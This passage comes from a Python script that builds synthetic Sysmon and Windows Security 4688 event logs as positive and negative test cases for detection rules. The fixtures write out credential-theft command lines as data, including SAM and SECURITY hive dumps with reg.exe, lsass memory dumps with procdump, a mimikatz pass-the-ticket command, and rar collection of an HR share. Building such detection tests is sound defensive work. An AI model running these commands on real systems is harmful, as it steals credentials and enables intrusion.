     "wscript.exe C:\\Users\\alice.m\\AppData\\Roaming\\st.js", ofn="CONHOST.EXE"))
case(d, "sec4688", sec("2025-03-08T18:40:00.125", CON, "\"C:\\Windows\\System32\\conhost.exe\" --headless cmd.exe /c C:\\ProgramData\\r.bat",
     "0x1700", "0x16e0", "C:\\Windows\\System32\\schtasks.exe"))
case(d, "negative", s1("2025-03-08T19:00:00.000", CON, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 5890, 5870, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="CONHOST.EXE"))

# 27 excessive_distinct_processes_from_windows_temp
d = "excessive_distinct_processes_from_windows_temp"
case(d, "sysmon1", *[s1("2025-03-09T10:%02d:%02d.250" % (1 + i // 6, (i % 6) * 9), "C:\\Windows\\Temp\\tmp%02d.exe" % (i + 1),
     "C:\\Windows\\Temp\\tmp%02d.exe" % (i + 1), 7000 + i, 6900, CMD, "cmd.exe /c C:\\Windows\\Temp\\run.bat") for i in range(38)])
case(d, "sec4688", *[sec("2025-03-09T11:%02d:%02d.500" % (2 + i // 5, (i % 5) * 11), "C:\\Windows\\Temp\\Svc%02d.exe" % (i + 1),
     "Svc%02d.exe /i" % (i + 1), "0x%x" % (0x2000 + 4 * i), "0x1ff0", CMD) for i in range(38)])
case(d, "negative", *([s1("2025-03-09T12:%02d:%02d.250" % (1 + i // 6, (i % 6) * 9), "C:\\Windows\\Temp\\tmp%02d.exe" % (i + 1),
     "C:\\Windows\\Temp\\tmp%02d.exe" % (i + 1), 7100 + i, 6900, CMD, "cmd.exe /c C:\\Windows\\Temp\\run.bat") for i in range(37)] +
     [s1("2025-03-09T12:15:00.250", "C:\\Windows\\Temp\\tmp01.exe", "C:\\Windows\\Temp\\tmp01.exe", 7190, 6900, CMD, "cmd.exe /c C:\\Windows\\Temp\\run.bat")]))

# 28 attempted_credential_dump_from_registry_via_reg_exe
d = "attempted_credential_dump_from_registry_via_reg_exe"
case(d, "sysmon1", s1("2025-03-10T02:22:22.250", REG, "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", 2500, 2480, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="reg.exe", il="High"))
case(d, "sec4688", sec("2025-03-10T02:40:00.875", CMD, "cmd.exe /c reg save HKEY_LOCAL_MACHINE\\SECURITY C:\\ProgramData\\sec.save",
     "0x9c8", "0x9b0", PS))
case(d, "negative", s1("2025-03-10T03:00:00.000", REG, "reg.exe save HKCU\\Software\\Contoso C:\\Backup\\contoso.hiv", 2590, 2480, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="reg.exe"))

# 29 dump_lsass_via_procdump
d = "dump_lsass_via_procdump"
case(d, "sysmon1", s1("2025-03-11T23:59:58.750", "C:\\Users\\alice.m\\Desktop\\procdump64.exe",
     "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp", 3900, 3880, CMD, "cmd.exe", ofn="procdump", il="High"))
case(d, "sec4688", sec("2025-03-12T00:10:00.250", "C:\\Tools\\Sysinternals\\procdump.exe",
     "procdump.exe -accepteula -mm lsass.exe C:\\ProgramData\\l.dmp", "0xf48", "0xf30", CMD))
case(d, "negative", s1("2025-03-12T00:30:00.000", "C:\\Users\\alice.m\\Desktop\\procdump64.exe",
     "procdump64.exe -accepteula -ma chrome.exe C:\\Users\\alice.m\\chrome.dmp", 3990, 3880, CMD, "cmd.exe", ofn="procdump"))

# Edge cases of the mappings (extra cases of some detections above).
case("check_elevated_cmd_using_whoami", "sysmon1_entities", s1("2025-02-15T11:00:00.125", CMD,
     "cmd.exe /c whoami /groups | find \"12288\" > C:\\Users\\Public\\o.txt & type C:\\Users\\Public\\o.txt", 8090, 7720, PS,
     "powershell.exe -nop", ofn="Cmd.Exe"))
case("network_discovery_using_route_windows_app", "sec4688_nocmdline",
     sec("2025-02-14T09:00:00.250", "C:\\Windows\\System32\\ROUTE.EXE", None, "0x1190", "0x1130", CMD))
case("mimikatz_passtheticket_commandline_parameters", "sec4688_targetuser",
     sec("2025-02-17T23:00:00.500", "C:\\ProgramData\\m64.exe", "m64.exe kerberos::ptt C:\\ProgramData\\u.kirbi", "0xd40", "0xcf0", CMD,
         subj="SRV-APP-03$", target="svc_sql"))
case("windows_archive_collected_data_via_rar", "sec4688_quoted", sec("2025-02-19T18:00:00.125", "C:\\Program Files\\WinRAR\\Rar.exe",
     "\"Rar.exe\" a -ep1 -r -y -v5m -m1 C:\\Windows\\Temp\\e.rar D:\\Shares\\HR", "0x1e80", "0x1e14", CMD))
case("control_loading_from_world_writable_directory", "sysmon1_system", s1("2025-02-11T12:00:00.875", "C:\\Windows\\System32\\control.exe",
     "control.exe C:\\Windows\\Temp\\x.cpl", 7460, 1200, SVC, "C:\\Windows\\system32\\svchost.exe -k netsvcs", user="NT AUTHORITY\\SYSTEM",
     il="System"))

for det, cs in cases.items():
    os.makedirs(os.path.join(OUT, det), exist_ok=True)
    for name, evs in cs.items():
        with open(os.path.join(OUT, det, name + ".xml"), "w", newline="\n") as f:
            for e in evs:
                f.write(e + "\n")
print(len(cases))
